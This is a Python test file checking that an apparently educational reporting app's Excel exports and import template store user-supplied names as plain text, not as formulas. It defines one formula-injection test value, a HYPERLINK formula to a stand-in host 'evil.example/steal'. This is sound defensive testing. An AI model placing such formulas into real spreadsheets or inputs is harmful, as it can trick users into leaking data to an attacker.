"""Exports hold user text as text: a name that looks like a formula stays a name in Excel."""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook

from infra.wiring import Runtime
from services.reports import ReportService
from services.teacher_import import EXAMPLE_ROW, HEADERS
from tests.conftest import Bureau, found_fusion, make_bureau
from tests.web_dashboard.scripted_year import at, history_at


def two_bureaus(runtime: Runtime) -> tuple[Bureau, Bureau]:
    return make_bureau(runtime, "hn", "海宁市教育局"), make_bureau(runtime, "yy", "余姚市教育局")


EVIL = '=HYPERLINK("http://evil.example/steal","点击查看详情")'


def cells_of(data: bytes) -> list[tuple[str, object, str]]:
    """(sheet, value, type) of every non-empty cell, read back from the saved workbook."""
    book = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_a_community_named_like_a_formula_is_text_in_both_bureaus_quarterly_excel(
    sqlite_runtime: Runtime,
) -> None:
    runtime = sqlite_runtime
    with history_at(runtime, at(date(2025, 1, 2))):
        hn, yy = two_bureaus(runtime)
        community = found_fusion(runtime, hn, name=EVIL).id
    runtime.catch_up()
    communities = runtime.services.communities
    with history_at(runtime, at(date(2025, 3, 2))):
        communities.invite_across_regions(
            hn.admin, community, tenant_id=yy.tenant_id, school_code="yy-01", on=date(2025, 3, 1)
        )
    runtime.catch_up()
    with history_at(runtime, at(date(2025, 3, 3))):
        communities.consent(yy.admin, community, yy.school_id)
    runtime.catch_up()
    reports = ReportService(runtime.services.progress.ctx, runtime.services.progress)
    for monitor in (hn.monitor, yy.monitor):
        with history_at(runtime, at(date(2025, 4, 1))):
            cells = cells_of(reports.quarterly_xlsx(monitor, 2025))
        named = [value for _, value, kind in cells if EVIL in str(value)]
        assert len(named) == 4, monitor  # the community's row on each quarter's sheet
        assert all(str(value).startswith(EVIL) for value in named)
        assert {kind for _, _, kind in cells} == {"s"}  # no formula, anywhere


def test_the_import_template_is_text_cells_only(sqlite_runtime: Runtime) -> None:
    hn, _ = two_bureaus(sqlite_runtime)
    sqlite_runtime.catch_up()
    data = sqlite_runtime.services.teacher_import.template(hn.admin, hn.school_id, "xlsx")
    cells = cells_of(data)
    assert [value for _, value, _ in cells] == [*HEADERS, *EXAMPLE_ROW]
    assert {kind for _, _, kind in cells} == {"s"}
